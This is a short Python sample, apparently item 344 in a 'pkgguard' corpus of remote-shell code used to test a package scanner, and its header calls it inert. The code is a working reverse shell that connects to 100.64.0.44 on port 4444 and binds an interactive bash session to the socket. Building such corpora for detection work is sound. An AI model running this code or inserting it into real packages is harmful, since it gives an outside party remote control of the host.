# pkgguard corpus 344 (remote-shell), modelled on [taxonomy]; inert, never run.
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("100.64.0.44", 4444))
subprocess.call(["/bin/bash", "-i"], stdin=s, stdout=s, stderr=s)
